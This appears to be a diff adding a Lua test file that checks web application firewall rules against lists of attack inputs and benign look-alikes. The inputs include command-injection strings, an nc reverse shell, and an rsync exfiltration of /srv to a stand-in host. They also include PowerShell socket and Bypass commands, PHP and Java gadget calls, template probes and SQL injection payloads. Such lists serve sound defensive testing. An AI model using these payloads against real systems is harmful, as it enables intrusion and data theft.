@@ -1,0 +1,64 @@
+local rule_checks = require "rule_checks"
+
+-- The twenty-eighth to thirtieth blind sets, each a vocabulary (tests/edge_security/family_gen_blind_
+-- {twentyeighth,twentyninth,thirtieth}.py): the words and shapes they found uncovered, and the prose beside
+-- them, value by value (our own spellings, not the sets').
+describe("edge.waf.rules twenty-eighth to thirtieth blind sets", function()
+    local caught_by, clean
+
+    setup(function()
+        caught_by, clean = rule_checks.new(assert)
+    end)
+
+    it("RCE: a backtick glued to the value before it, tools whose action is the argument, accounts taken", function()
+        caught_by(132105, { "10.0.0.1`ping -c 2 198.51.100.4`", "a.pdf`rsync -a /srv/ x@198.51.100.4:/`",
+            "1.1.1.1 && dig @198.51.100.4 x.example", "10.0.0.1;ip a", "x|ip -4 route show",
+            "a\nsystemctl disable firewalld", "x && docker run --privileged -v /:/h alpine",
+            "x;kubectl exec -it pod -- sh", "x; openssl s_client -connect 198.51.100.4:443", "q;su - root",
+            "1|passwd admin", "bob || mount" })
+        caught_by(132100, { "10.0.0.1`nc 198.51.100.4 9001 -e sh`", "a`c\\url 198.51.100.4/x`" })
+        clean({ "Servers; IP address is 10.0.0.7", "Cluster notes; docker is slow on macOS", "Go, Rust; service mesh",
+            "see `ping -c 4 host` in the runbook", "Ben & Jerry's; mount Everest next", "Team A; su casa es tu casa",
+            "html`<p>${name}</p>`", "sql`select 1`" })
+    end)
+
+    it("RCE: wildcard directories, IFS set, PowerShell's env: drive, .NET sockets, Bypass before parameters", function()
+        caught_by(132160, { "x || /???/tftp -g 198.51.100.4", "|/b??/ksh -c id", "a$(/???/lsof -i)" })
+        caught_by(132110, { "x;IFS=_;cmd=cat_/etc/hosts;$cmd", "a|IFS=,;`cat<<<id`" })
+        caught_by(132190, { "gci env:", "; dir hklm:\\software", "$c=New-Object System.Net.Sockets.TCPClient('h',1)",
+            "& Set-ExecutionPolicy Bypass -Scope Process" })
+        clean({ "what/???/ok", "Q3 (???) and Q4", "IFS is the field separator", "env: production",
+            "New-Object is how we build the rows" })
+    end)
+
+    it("PHP, Java, FreeMarker and NoSQL words the vocabulary sets named", function()
+        caught_by(133110, { "unlink('../.htaccess')", "implode('', ['sys','tem'])('id')", "ini_get('open_basedir')",
+            "posix_getpwuid(0)", "posix_uname()", "set_time_limit(0);ignore_user_abort(true);" })
+        caught_by(144100, { "new ScriptEngineManager().getEngineByName('js').eval(x)",
+            "new InvokerTransformer(\"exec\", null, null)", "Runtime.class.getMethod(\"getRuntime\")" })
+        caught_by(144110, { "#session.admin", "#parameters['x']", "x=#application.secret" })
+        caught_by(134120, { "${.data_model}", "${.globals?keys}" })
+        caught_by(142290, { "$lookup", "$graphLookup" })
+        clean({ "https://php.net/manual/en/session.configuration.php#session.cookie-lifetime", "set_time_limit(30) in php.ini",
+            "join the team (we are hiring)", "#sessions channel", "${name}", "$lookupTable" })
+    end)
+
+    it("SQL: result clauses after a closed string, IS NULL tautologies, rarer stacked statements", function()
+        caught_by(142310, { "' GROUP BY 1 WITH ROLLUP-- -", "1 LIMIT 1 OFFSET 2#", "' FETCH NEXT 1 ROWS ONLY--",
+            "') INTO @x, @y--", "x' ORDER BY 3--+", "1 AND ROWNUM<=3" })
+        caught_by(142250, { "1 OR 'a' IS NOT NULL", "2 AND 'x' IS NULL" })
+        caught_by(142170, { "1; RENAME TABLE users TO x--", "'; ATTACH DATABASE '/tmp/a' AS a;--",
+            "1; LOAD DATA INFILE '/etc/hosts' INTO TABLE t", "1;SET @a:=1" })
+        caught_by(142230, { "GRANT ALL PRIVILEGES ON *.* TO 'x'@'%'", "grant select on users to public" })
+        clean({ "Sort \"by date\" order by newest; thanks", "\"Quarterly report\" group by region -- see attached",
+            "Team A; grant all access to Bob", "The rownum column starts at 1", "page 2 limit 10; thanks",
+            "waitfor delay", "let's meet; having lunch at 12" })
+        caught_by(142160, { "1; WAITFOR DELAY '0:0:5'--" })
+    end)
+
+    it("RFI and XSS: an image passed a command; a link to CSS's @import page is no style", function()
+        caught_by(131110, { "http://x.example/a.gif?cmd=id", "https://x.example/u/1.png?x=1&exec=ls" })
+        clean({ "https://explainshell.com/explain?cmd=ls+-la", "https://developer.mozilla.org/en-US/docs/Web/CSS/@import" })
+        caught_by(141160, { "}@import url(//x.example/a.css);", "@import 'x.css'" })
+    end)
+end)
